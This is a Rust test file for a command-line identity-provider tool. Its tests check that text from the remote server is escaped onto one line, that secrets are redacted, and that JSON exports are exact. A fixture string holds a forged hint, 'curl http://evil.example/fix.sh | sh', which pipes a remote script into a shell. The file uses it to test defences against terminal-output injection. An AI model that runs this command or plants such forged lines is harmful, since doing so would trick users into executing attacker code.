//! The output rule (issue 19): remote text is one escaped line wherever it is shown, held secrets
//! are redacted only inside remote text (never in the tool's own words or JSON keys), a secret
//! too short to hide is said once and not hidden, and JSON results and files are exact.

use crate::support::control_plane::{Session, ALL_SCOPES, APP, OKTA};
use crate::support::TestContext;
use alter_testkit::control_plane::Fault;
use serde_json::{json, Value};

const FORGED: &str = "x\nhint: run curl http://evil.example/fix.sh | sh";

/// No line of `text` is one the remote party wrote to look like ours.
#[track_caller]
fn no_forged_line(text: &str) {
    assert!(!text.lines().any(|l| l.starts_with("hint: run curl")), "a forged line:\n{text}");
    assert!(text.contains("x\\u{a}hint: run curl http://evil.example/fix.sh | sh"), "shown escaped:\n{text}");
}

#[test]
fn a_line_feed_in_a_problem_cannot_forge_a_hint() {
    let s = Session::new();
    let problem = json!({"title": "Bad", "status": 400, "code": "invalid_request", "detail": FORGED,
        "errors": [{"field": "audience", "message": FORGED}]});
    let headers = vec![("content-type".to_owned(), "application/problem+json".to_owned())];
    s.cp.inject(Fault::Raw {
        path_contains: "identity-providers".into(),
        status: 400,
        headers,
        body: problem.to_string().into(),
        times: 1,
    });
    let run = s.alter(&["idp", "list"]);
    run.code(5);
    no_forged_line(&run.stderr);
    assert_eq!(run.stderr.lines().filter(|l| l.contains("evil.example")).count(), 2, "{}", run.stderr);
}

#[test]
fn a_line_feed_in_the_signed_in_subject_or_a_saved_client_id_stays_on_its_line() {
    let s = Session::new();
    s.cp.add_token("tok_forging_subject", FORGED, &ALL_SCOPES);
    let mut ctx = TestContext::new();
    ctx.env("ALTER_API_URL", s.cp.url()).env("ALTER_TOKEN", "tok_forging_subject");
    let run = ctx.run(&["auth", "status"]);
    run.code(0);
    no_forged_line(&run.stdout);

    let create = ["idp", "create", "--issuer-url", OKTA, "--wallet-client-id", FORGED, "--wallet-client-secret", "-"];
    let created = s
        .ctx
        .run_with_stdin(&[&create[..], &["--json", "--app", APP]].concat(), Some(b"stdin-wallet-secret"))
        .code(0)
        .json();
    // The JSON result is exact: the line feed is JSON-escaped, and the value parses back whole.
    assert_eq!(created["wallet"]["client_id"], FORGED);
    let id = created["id"].as_str().unwrap();
    let shown = s.alter(&["idp", "show", "--provider", id]);
    shown.code(0);
    no_forged_line(&shown.stdout);
}

#[test]
fn a_secret_that_spells_the_tools_own_words_never_mangles_them() {
    let s = Session::new();
    // A token that happens to be a word of ours, and an echo that quotes it back.
    s.cp.add_token("provider", "dev@example.com", &ALL_SCOPES);
    let mut ctx = TestContext::new();
    ctx.env("ALTER_API_URL", s.cp.url()).env("ALTER_TOKEN", "provider");
    let run = ctx.run(&["idp", "list", "--app", APP]);
    run.code(0).stdout_has("has no identity provider. Create one with `alter idp create");
    let json = ctx.run(&["idp", "create", "--issuer-url", OKTA, "--app", APP, "--json"]).code(0).json();
    assert!(json.get("provider_type").is_some(), "JSON keys are never redacted: {json}");
    s.cp.inject(Fault::Echo { path_contains: "identity-providers".into(), status: 422, times: 1 });
    let echoed = ctx.run(&["idp", "list", "--app", APP]);
    echoed.code(5).stderr_has("Authorization: Bearer ***");
    assert!(!echoed.stderr.contains("Bearer provider"), "{}", echoed.stderr);
}

#[test]
fn a_secret_too_short_to_hide_is_said_once_and_not_hidden() {
    let s = Session::new();
    let run = s.ctx.run_with_stdin(
        &[
            "idp",
            "create",
            "--issuer-url",
            OKTA,
            "--wallet-client-id",
            "0oa1",
            "--wallet-client-secret",
            "-",
            "--dry-run",
            "--app",
            APP,
        ],
        Some(b"s"),
    );
    run.code(0).stderr_has("Dry run: nothing was sent.");
    assert_eq!(run.stderr.matches("too short to be a real secret").count(), 1, "{}", run.stderr);
    // The request body still masks the secret member itself.
    assert_eq!(run.json()["body"]["wallet"]["client_secret"], "***");
}

#[test]
fn export_is_exact_on_stdout_and_in_its_file_and_round_trips() {
    let s = Session::new();
    let audience = format!("api://alter\u{202e}\u{85}x-{}", "y".repeat(3000));
    let id = s.create_okta();
    s.alter(&["idp", "update", "--provider", &id, "--audience", &audience]).code(0);
    let stdout = s.alter(&["idp", "export"]);
    stdout.code(0);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("idp.json");
    s.alter(&["idp", "export", "-o", file.to_str().unwrap()]).code(0);
    let written = std::fs::read_to_string(&file).unwrap();
    assert_eq!(stdout.stdout, written, "stdout and -o FILE get the same bytes");
    assert!(
        written.contains(r"api://alter\u202e\u0085x-yyy"),
        "JSON escapes only: {}",
        &written[..200.min(written.len())]
    );
    let parsed: Value = serde_json::from_str(&written).unwrap();
    assert_eq!(parsed["audience"], audience.as_str(), "never cut, never rewritten");
    s.alter(&["idp", "diff", "-f", file.to_str().unwrap()]).code(0);
}

#[test]
fn an_oversized_workspace_link_is_refused_not_read_whole() {
    let ctx = TestContext::new();
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join(".alter")).unwrap();
    let link = std::fs::File::create(dir.path().join(".alter/app.json")).unwrap();
    link.set_len(50 << 20).unwrap();
    let mut ctx = ctx;
    ctx.cwd(dir.path());
    ctx.run(&["idp", "list"]).code(2).stderr_has("over the 1 MiB limit");
}

/// Every string of `value` (but the enumerations the contract fixes) carries a forged line.
fn forge_strings(value: &mut Value) {
    const ENUMS: [&str; 4] = ["provider_type", "status", "secret_source", "verification"];
    match value {
        Value::Object(members) => {
            for (key, member) in members.iter_mut() {
                match member {
                    Value::String(s) if !ENUMS.contains(&key.as_str()) => s.push_str(FORGED),
                    _ => forge_strings(member),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(forge_strings),
        _ => {}
    }
}

fn answer(s: &Session, path: &str, body: &Value) {
    let headers = vec![("content-type".to_owned(), "application/json".to_owned())];
    s.cp.inject(Fault::Raw {
        path_contains: path.into(),
        status: 200,
        headers,
        body: body.to_string().into(),
        times: 1,
    });
}

#[test]
fn a_control_plane_forging_lines_in_every_field_forges_none_in_any_view() {
    let s = Session::new();
    let id = s.create_okta();
    s.ctx
        .run_with_stdin(
            &["idp", "webhook", "enable", "--provider", &id, "--secret", "-", "--app", APP],
            Some(b"okta-event-hook-secret-7"),
        )
        .code(0);
    let mut provider = s.alter(&["idp", "show", "--provider", &id, "--json"]).code(0).json();
    forge_strings(&mut provider);
    let mut webhook = s.alter(&["idp", "webhook", "status", "--provider", &id, "--json"]).code(0).json();
    forge_strings(&mut webhook);
    let provider_path = format!("identity-providers/{id}");
    for (args, path, body) in [
        (vec!["idp", "show", "--provider", &id], provider_path.as_str(), provider.clone()),
        (vec!["idp", "list"], "identity-providers", json!({"items": [provider.clone()]})),
        (vec!["idp", "webhook", "status", "--provider", &id], "webhook", webhook),
    ] {
        answer(&s, path, &body);
        let run = s.alter(&args);
        run.code(0);
        assert!(
            !run.stdout.lines().chain(run.stderr.lines()).any(|l| l.starts_with("hint: run curl")),
            "`{}`:\n{}\n{}",
            args.join(" "),
            run.stdout,
            run.stderr
        );
        assert!(
            run.stdout.contains("\\u{a}hint: run curl"),
            "`{}` shows the forged text escaped:\n{}",
            args.join(" "),
            run.stdout
        );
    }
}
